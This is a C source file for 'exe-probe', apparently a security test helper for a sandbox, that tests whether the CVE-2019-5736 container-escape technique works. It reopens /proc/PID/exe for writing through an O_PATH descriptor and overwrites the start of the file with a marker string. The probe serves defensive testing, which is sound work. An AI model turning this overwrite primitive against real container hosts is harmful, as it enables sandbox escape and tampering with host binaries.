/*
 * exe-probe: the CVE-2019-5736 class of attack from inside a sandbox.
 * `exe-probe write PATH...` opens each path for writing (O_WRONLY, then
 * O_RDWR) and, if that works, writes a marker at its start; it prints
 * "PATH ok" or "PATH errno=N". `exe-probe reopen PID` opens /proc/PID/exe
 * with O_PATH (as runc's attackers did), waits up to 2 s for PID to exit,
 * then reopens it for writing through /proc/self/fd/N and writes the
 * marker. `exe-probe reopen-child PROGRAM` does the same to a child it
 * starts running PROGRAM, reopening once the child has been reaped.
 * Built static (musl) by test/security/proc-exe-overwrite.test.ts: a
 * busybox shell would be the busybox it tries to overwrite (ETXTBSY).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/wait.h>
#include <unistd.h>

static const char MARK[] = "corral-exe-probe-was-here";

static void attempt(const char *label, const char *path)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		fd = open(path, O_RDWR);
	if (fd < 0) {
		printf("%s errno=%d\n", label, errno);
		return;
	}
	ssize_t w = pwrite(fd, MARK, sizeof MARK - 1, 0);
	printf("%s %s\n", label, w == (ssize_t)(sizeof MARK - 1) ? "ok" : "opened-not-written");
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "write")) {
		for (int i = 2; i < argc; i++)
			attempt(argv[i], argv[i]);
	} else if (argc == 3 && (!strcmp(argv[1], "reopen") || !strcmp(argv[1], "reopen-child"))) {
		int child = !strcmp(argv[1], "reopen-child");
		pid_t pid = child ? fork() : atoi(argv[2]);
		if (pid == 0) {
			execl(argv[2], argv[2], "1", (char *)NULL);
			_exit(127);
		}
		struct timespec ts = {0, 200000000};
		if (child)
			nanosleep(&ts, NULL); /* its execve done */
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
		int fd = open(path, O_PATH);
		if (fd < 0) {
			printf("%s errno=%d\n", child ? "child-exe" : path, errno);
			return 0;
		}
		if (child) {
			waitpid(pid, NULL, 0);
		} else {
			ts.tv_nsec = 10000000;
			for (int i = 0; i < 200 && (kill(pid, 0) == 0 || errno != ESRCH); i++)
				nanosleep(&ts, NULL);
		}
		char via[64];
		snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
		attempt(child ? "child-exe" : path, via);
	} else {
		fprintf(stderr, "usage: exe-probe write PATH... | reopen PID\n");
		return 2;
	}
	return 0;
}
